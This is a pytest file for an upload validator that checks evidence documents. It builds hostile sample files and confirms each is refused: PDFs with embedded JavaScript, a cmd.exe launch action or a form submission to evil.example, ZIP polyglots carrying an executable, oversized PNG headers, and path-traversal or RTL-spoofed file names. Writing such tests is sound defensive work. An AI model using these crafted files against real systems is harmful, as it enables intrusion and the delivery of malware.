"""Evidence is checked by parsing, not by its first bytes (issue 17, L4): crafted files are refused
naming the rule they break, good ones kept (images re-encoded, without their metadata), and
names kept without directories or hidden characters."""

from __future__ import annotations

import io
import zipfile

import pytest
from PIL import Image

from negotiation_intake.adapters.evidence_content import checked_document
from negotiation_intake.domain.evidence import (
    ACTIVE_CONTENT,
    ENCRYPTED,
    IMAGE_DIMENSIONS,
    MALFORMED,
    TRAILING_DATA,
    CheckedDocument,
    UnacceptableDocumentError,
    display_name,
)
from tideover_testkit.journeys import PROOF_PDF, pdf_document

PAGES = (b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>")
GPS_AND_TURNED = {0x0112: 6, 0x8825: {2: (31.0, 14.0, 2.5)}}  # orientation: turned 90°; a GPS latitude


def catalog_with(entries: bytes, *more: bytes) -> bytes:
    """A one-page PDF whose catalog has `entries`, and objects 4… `more`."""
    return pdf_document(b"<</Type/Catalog/Pages 2 0 R" + entries + b">>", *PAGES, *more)


def image(kind: str, exif: dict[int, object] | None = None, size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    picture = Image.new("RGB", size, (200, 30, 30))
    if exif:
        tags = Image.Exif()
        tags.update(exif)
        picture.save(out, kind, exif=tags.tobytes())
    else:
        picture.save(out, kind)
    return out.getvalue()


def a_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("invoice.exe", b"MZ\x90\x00")
    return out.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares `width` × `height` pixels."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


# (what, the content, the rule it breaks)
REFUSED = [
    (
        "a web page after a PDF header",
        PROOF_PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n<html><script>alert(1)</script>\n"),
        MALFORMED,
    ),
    (
        "a script in a comment after the header",
        PROOF_PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<script>alert(1)</script>\n"),
        MALFORMED,
    ),
    ("a PDF header and nothing a reader can read", b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n", MALFORMED),
    ("JavaScript run on opening", catalog_with(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), ACTIVE_CONTENT),
    (
        "JavaScript in the name tree, its name escaped",
        catalog_with(b"/Names<</J#61vaScript 4 0 R>>", b"<</Names[]>>"),
        ACTIVE_CONTENT,
    ),
    ("a program launched on opening", catalog_with(b"/OpenAction 4 0 R", b"<</S/Launch/F(cmd.exe)>>"), ACTIVE_CONTENT),
    ("an embedded file", catalog_with(b"/Names<</EmbeddedFiles 4 0 R>>", b"<</Names[]>>"), ACTIVE_CONTENT),
    ("a form that submits itself", catalog_with(b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"), ACTIVE_CONTENT),
    (
        "an encrypted PDF",
        pdf_document(b"<</Type/Catalog/Pages 2 0 R>>", *PAGES).replace(
            b"/Root 1 0 R>>", b"/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>>>"
        ),
        ENCRYPTED,
    ),
    ("a ZIP after a PDF's %%EOF", PROOF_PDF + a_zip(), TRAILING_DATA),
    ("a ZIP after a PNG", image("PNG") + a_zip(), TRAILING_DATA),
    ("a ZIP after a JPEG", image("JPEG") + a_zip(), TRAILING_DATA),
    ("a PNG cut short", image("PNG")[:-20], MALFORMED),
    ("a JPEG cut short", image("JPEG")[:-2], MALFORMED),
    ("a PNG with a damaged chunk", image("PNG").replace(b"IDAT", b"IDAt"), MALFORMED),
    ("a PNG declaring 60 million pixels", png_declaring(10_000, 6_000), IMAGE_DIMENSIONS),
    # More than a phone's photo (12 or 24.5 megapixels) or a page's scan needs: refused undecoded.
    ("a PNG declaring 30 million pixels", png_declaring(6_000, 5_000), IMAGE_DIMENSIONS),
    ("a PNG declaring 10 billion pixels", png_declaring(100_000, 100_000), IMAGE_DIMENSIONS),
]


@pytest.mark.parametrize(("what", "content", "rule"), REFUSED, ids=[what for what, *_ in REFUSED])
def test_a_crafted_document_is_refused_naming_the_rule(what: str, content: bytes, rule: str) -> None:
    with pytest.raises(UnacceptableDocumentError) as refused:
        checked_document(content)

    assert (refused.value.rule, refused.value.status) == (rule, 422), str(refused.value)


@pytest.mark.parametrize(
    "content",
    [
        PROOF_PDF,
        PROOF_PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"),  # the binary comment most writers add
        catalog_with(b"/OpenAction[3 0 R/Fit]"),  # open at the first page: an action that runs nothing
        PROOF_PDF + b"\r\n\x00\x00",  # padding after %%EOF, as some scanners write
    ],
    ids=["smallest", "binary comment", "open at page one", "padded"],
)
def test_a_plain_pdf_is_kept_as_uploaded(content: bytes) -> None:
    assert checked_document(content) == CheckedDocument("application/pdf", content)


@pytest.mark.parametrize(("kind", "media_type"), [("PNG", "image/png"), ("JPEG", "image/jpeg")])
def test_an_image_is_kept_re_encoded_without_its_metadata(kind: str, media_type: str) -> None:
    checked = checked_document(image(kind, exif=GPS_AND_TURNED))

    kept = Image.open(io.BytesIO(checked.content))
    assert (checked.media_type, kept.format) == (media_type, kind)
    assert dict(kept.getexif()) == {}
    assert kept.size == ((30, 40) if kind == "JPEG" else (40, 30))  # a photo is turned upright as its EXIF said


@pytest.mark.parametrize(
    ("uploaded", "kept"),
    [
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # shown as "invoiceexe.pdf" with the override
        ("\u2067payslip\u2069.pdf", "payslip.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\li\\payslip.pdf", "payslip.pdf"),
        ("pay\nslip\t.pdf", "payslip.pdf"),
        ("zero\u200bwidth.pdf", "zerowidth.pdf"),
        ("  ..  ", "document"),
        ("\u202e", "document"),
        ("失业证明 2026.pdf", "失业证明 2026.pdf"),
        ("e\u0301tat.pdf", "\u00e9tat.pdf"),  # composed
        ("x" * 300 + ".pdf", "x" * 255),
    ],
)
def test_a_name_is_kept_without_directories_or_hidden_characters(uploaded: str, kept: str) -> None:
    assert display_name(uploaded) == kept
